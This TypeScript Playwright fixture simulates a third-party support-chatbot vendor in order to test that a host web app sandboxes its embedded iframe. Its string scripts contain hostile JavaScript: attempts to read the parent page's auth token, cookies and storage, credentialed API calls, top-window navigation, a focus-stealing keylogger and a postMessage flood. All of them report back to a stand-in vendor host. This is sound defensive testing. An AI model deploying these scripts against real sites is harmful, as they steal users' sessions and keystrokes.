import type { BrowserContext, Route } from '@playwright/test';
import type { Watch } from '../checks/watch.ts';

const origin = 'https://assistant.example';
export const chatbotAddress = `${origin}/loader.js`;

/** A conversation as vendors draw them, which takes note of every token that it is given. */
const conversation = `
  const post = (path, body) => fetch('${origin}/' + path, { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(body) });
  const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${origin}/style.css' });
  document.head.append(style);
  const make = (tag, values, children = []) => {
    const element = Object.assign(document.createElement(tag), values);
    element.append(...children);
    return element;
  };
  const log = make('ol', {});
  const say = (className, text) => log.append(make('li', { className, textContent: text }));
  say('theirs', document.documentElement.lang === 'en' ? 'Hello! How can I help you?' : 'Bonjour, comment puis-je vous aider ?');
  const question = make('input', { ariaLabel: 'Message' });
  const form = make('form', {}, [question, make('button', { textContent: 'OK' })]);
  form.addEventListener('submit', (event) => {
    event.preventDefault();
    say('ours', question.value);
    question.value = '';
  });
  const site = make('a', { href: '${origin}/site', target: '_blank', rel: 'opener', textContent: 'assistant.example' });
  document.body.append(log, form, site);
  const note = (token) => post('token', { token });
  note(window.perenneChatbot.token);
  addEventListener('perenne:chatbot-token', ({ detail }) => note(detail.token));
`;

const style = `
  :root { font: 16px/1.5 system-ui; }
  body { display: flex; flex-direction: column; height: 100vh; margin: 0; padding: 16px; box-sizing: border-box; gap: 16px; }
  ol { flex: 1; display: flex; flex-direction: column; gap: 8px; margin: 0; padding: 0; list-style: none; overflow: auto; }
  li { align-self: flex-start; max-width: 80%; padding: 8px 14px; border-radius: 14px; background: light-dark(#e8eef0, #22353d); }
  li.ours { align-self: flex-end; background: light-dark(#134c5c, #86cbdc); color: light-dark(#fff, #06222b); }
  form { display: flex; gap: 8px; }
  input { flex: 1; min-width: 0; padding: 10px; font: inherit; }
  button { padding: 10px 18px; font: inherit; }
  a { color: light-dark(#134c5c, #86cbdc); font-size: 14px; }
`;

/**
 * The same, by somebody who wants what is in the safe: it tries whatever a script of the pages' own could do, and
 * reports what came of it.
 */
const attacks = `
  const attempts = {
    'the page around it': () => parent.document.title,
    'the storage of the page around it': () => parent.localStorage.getItem('authToken'),
    'what the page around it says': () => parent.document.body.innerText.slice(0, 40),
    'its own storage': () => localStorage.getItem('authToken'),
    'the storage of the tab': () => sessionStorage.length,
    'cookies': () => document.cookie,
    'databases': () => indexedDB.open('perenne') && 'opened',
    'caches': async () => (await caches.keys()).length,
    'a worker of its own for all pages': async () => (await navigator.serviceWorker.getRegistrations()).length,
    'a call with the session': async () => {
      const token = (() => { try { return localStorage.getItem('authToken'); } catch { return ''; } })();
      const headers = token ? { Authorization: 'Bearer ' + token } : {};
      const address = new URL('/backend/api/v1/user/profile', location.href);
      return (await fetch(address, { credentials: 'include', headers })).status;
    },
    'another place to take it to': async () => (await fetch('https://elsewhere.example/')).status,
    'a page of the safe in a frame': () => new Promise((resolve, reject) => {
      const frame = document.createElement('iframe');
      frame.src = new URL('/home', location.href).href;
      frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } };
      document.body.append(frame);
      setTimeout(() => reject(new DOMException('nothing came', 'TimeoutError')), 2000);
    }),
    'a blank window beside': () => open('about:blank').localStorage.getItem('authToken'),
    'the address of the page around it': () => { top.location.href = '${origin}/taken'; return 'went'; },
    'the camera': () => {
      if (!document.featurePolicy.allowsFeature('camera')) throw new DOMException('refused', 'NotAllowedError');
      return 'leave to ask';
    },
  };
  const report = {};
  for (const [what, attempt] of Object.entries(attempts)) {
    try { report[what] = 'got ' + (await attempt()); } catch (error) { report[what] = error.name; }
  }
  const inner = make('iframe', { src: '${origin}/inner?' + new URLSearchParams({ safe: location.href }) });
  document.body.append(inner);
  await post('report', report);
`;

/** The same, by somebody who wants what is typed in the safe: it takes the focus, each millisecond, and reports each key. */
const thief = `
  addEventListener('keydown', ({ key }) => void post('key', key));
  setInterval(() => {
    if (!document.hasFocus()) window.focus();
    question.focus();
  }, 1);
`;

/** The same, by somebody who wants the page to stop: many messages, and more of them without end. */
const flood = `
  const flood = (count) => {
    for (let i = 0; i < count; i++) parent.postMessage({ type: 'perenne:chatbot-ready' }, '*');
  };
  flood(200_000);
  setInterval(() => flood(2000), 10);
`;

/** A page of the vendor's own origin and policy, inside of the frame. */
const inner = `<!doctype html><script type="module">
  const address = new URL('/backend/api/v1/user/profile', new URLSearchParams(location.search).get('safe'));
  const report = {};
  try { report.call = 'got ' + (await fetch(address, { credentials: 'include' })).status; } catch (error) { report.call = error.name; }
  try { report.storage = 'got ' + localStorage.length; } catch (error) { report.storage = error.name; }
  try { top.location.href = '${origin}/taken'; report.top = 'went'; } catch (error) { report.top = error.name; }
  for (const around of [parent, top])
    for (const type of ['ready', 'failed', 'close']) around.postMessage({ type: 'perenne:chatbot-' + type }, '*');
  await fetch('${origin}/inner-report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
</script>`;

const scripts = {
  conversation,
  attacks: conversation + attacks,
  thief: conversation + thief,
  flood: conversation + flood,
};

type Answers = keyof typeof scripts | 'nothing' | 'silence';

/** The vendor of a support chatbot, at an origin of its own: what its script does, and what reaches its server. */
export class ChatbotVendor {
  /** Every token that the script was given, in order. */
  readonly tokens: (string | null)[] = [];
  /** By what it tried. */
  report: Record<string, string> | undefined;
  innerReport: Record<string, string> | undefined;
  /** Every key that was pressed in its frame, where it takes note of them. */
  readonly keys: string[] = [];
  /** The pages of its own that somebody came to. */
  readonly visited: string[] = [];
  /** The script was asked for so many times. */
  loads = 0;
  answers: Answers;

  private constructor(answers: Answers) {
    this.answers = answers;
  }

  static async open(context: BrowserContext, watch: Watch, answers: Answers = 'conversation'): Promise<ChatbotVendor> {
    const vendor = new ChatbotVendor(answers);
    watch.allow(origin);
    await context.route(`${origin}/**`, (route) => vendor.#answer(route));
    return vendor;
  }

  #answer(route: Route): Promise<void> {
    const { pathname } = new URL(route.request().url());
    const body = route.request().postData() ?? 'null';
    if (pathname === '/loader.js') return this.#answerScript(route);
    if (pathname === '/style.css') return route.fulfill({ contentType: 'text/css', body: style });
    if (pathname === '/inner') return route.fulfill({ contentType: 'text/html', body: inner });
    if (pathname === '/token') this.tokens.push((JSON.parse(body) as { token: string | null }).token);
    if (pathname === '/key') this.keys.push(JSON.parse(body) as string);
    if (pathname === '/report') this.report = JSON.parse(body) as Record<string, string>;
    if (pathname === '/inner-report') this.innerReport = JSON.parse(body) as Record<string, string>;
    if (route.request().resourceType() === 'document') this.visited.push(pathname);
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>assistant.example</title>' });
  }

  async #answerScript(route: Route): Promise<void> {
    this.loads += 1;
    if (this.answers === 'silence') return;
    if (this.answers === 'nothing') return route.abort('connectionrefused');
    return route.fulfill({ contentType: 'text/javascript', body: `(async () => {${scripts[this.answers]}})();` });
  }
}
